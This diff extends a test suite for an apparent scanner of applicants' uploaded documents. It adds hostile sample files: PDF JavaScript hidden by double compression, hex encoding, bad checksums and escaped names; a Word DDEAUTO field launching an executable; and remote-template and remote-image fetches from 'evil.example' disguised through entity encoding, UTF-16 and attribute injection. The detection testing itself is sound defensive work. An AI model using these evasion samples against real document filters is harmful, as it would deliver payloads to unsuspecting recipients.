@@ -13,8 +13,15 @@ const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
 const pdfOf = (text: string) => latin1(`%PDF-1.7\n1 0 obj ${text} endobj\n`);
 const packed = (text: string) =>
   pdfOf(`<< /Filter /FlateDecode >> stream\n${deflateSync(text).toString('latin1')}`);
-const ole = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';
+const SCRIPT = '4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const objectStream = (filter: string, content: Buffer) =>
+  pdfOf(`<< /Type /ObjStm /N 1 /F#69rst 4 ${filter} >> stream\n${content.toString('latin1')}\nendstream`);
+const field = (...words: string[]) => ({
+  'word/document.xml': `<w:document>${words.map((word) => `<w:instrText>${word}</w:instrText>`).join('')}</w:document>`,
+});
 const wide = (text: string) => [...text].map((sign) => `${sign}\0`).join('');
+
+const ole = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';
 
 onEachEngine('documents of applicants', ({ makeContext }) => {
   async function apply(extension: string, content: Uint8Array) {
@@ -66,6 +73,30 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'contains JavaScript',
     ],
     [
+      'a PDF whose JavaScript is compressed twice',
+      'pdf',
+      objectStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(SCRIPT))),
+      'PDF',
+      'can’t be unpacked, or takes too long to check',
+    ],
+    [
+      'a PDF whose JavaScript is written as hexadecimal digits',
+      'pdf',
+      objectStream('/Filter /ASCIIHexDecode', Buffer.from(`${Buffer.from(SCRIPT).toString('hex')}>`)),
+      'PDF',
+      'can’t be unpacked, or takes too long to check',
+    ],
+    [
+      'a PDF whose JavaScript is compressed, with a wrong checksum',
+      'pdf',
+      objectStream(
+        '/F#69lter /FlateDecode',
+        Buffer.concat([deflateSync(SCRIPT).subarray(0, -4), Buffer.alloc(4)]),
+      ),
+      'PDF',
+      'can’t be unpacked, or takes too long to check',
+    ],
+    [
       'an RTF file that updates an object',
       'rtf',
       rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}'),
@@ -115,6 +146,52 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'contains macros, controls or objects from other programs',
     ],
     [
+      'a Word file with an object under another name',
+      'docx',
+      docx({ 'word/_rels/document.xml.rels': rels('oleObject', 'media/a.dat') }),
+      'Word',
+      'contains macros, controls or objects from other programs',
+    ],
+    [
+      'a Word file with a call of another program',
+      'docx',
+      docx(field(' DD', 'E<!-- -->AUTO c:\\\\Windows\\\\a.exe')),
+      'Word',
+      'contains macros, controls or objects from other programs',
+    ],
+    [
+      'a Word file with a template from elsewhere, its address written as numbers',
+      'docx',
+      docx(settings('&#x68;ttps://evil.example/a.dotm')),
+      'Word',
+      'fetches or sends something',
+    ],
+    [
+      'a Word file with a template from elsewhere that calls itself a link',
+      'docx',
+      docx({
+        'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://e.example/a" Id=">/hyperlink'),
+      }),
+      'Word',
+      'fetches or sends something',
+    ],
+    [
+      'a Word file with a template from elsewhere, in UTF-16',
+      'docx',
+      docx({
+        'word/_rels/settings.xml.rels': wide(rels('attachedTemplate', 'https://evil.example/a.dotm')),
+      }),
+      'Word',
+      'fetches or sends something',
+    ],
+    [
+      'an OpenDocument file with a picture from elsewhere',
+      'odt',
+      odt({ 'styles.xml': '<draw:image xlink:href="https://evil.example/a.png" xlink:actuate="onLoad"/>' }),
+      'OpenDocument',
+      'fetches or sends something',
+    ],
+    [
       'a Word file that cannot be unpacked',
       'docx',
       docx().subarray(0, -30),
@@ -143,6 +220,23 @@ onEachEngine('documents of applicants', ({ makeContext }) => {
       'a Word file with a link',
       'docx',
       docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://ada.example') }),
+    ],
+    [
+      'a Word file with the number of its page',
+      'docx',
+      docx(field(' PAGE ', ' HYPERLINK "https://ada.example" ')),
+    ],
+    [
+      'an OpenDocument file with a link and a picture',
+      'odt',
+      odt({
+        'styles.xml': '<text:a xlink:href="https://ada.example"/><draw:image xlink:href="Pictures/1.png"/>',
+      }),
+    ],
+    [
+      'a PDF with bookmarks',
+      'pdf',
+      pdfOf('<< /First 5 0 R /Last 6 0 R >> endobj 2 0 obj << >> stream\nBT\nendstream'),
     ],
     ['a Word file with a template of its writer', 'docx', docx(settings('file:///C:\\Users\\Ada\\CV.dotx'))],
     ['a Word file with a chart', 'docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
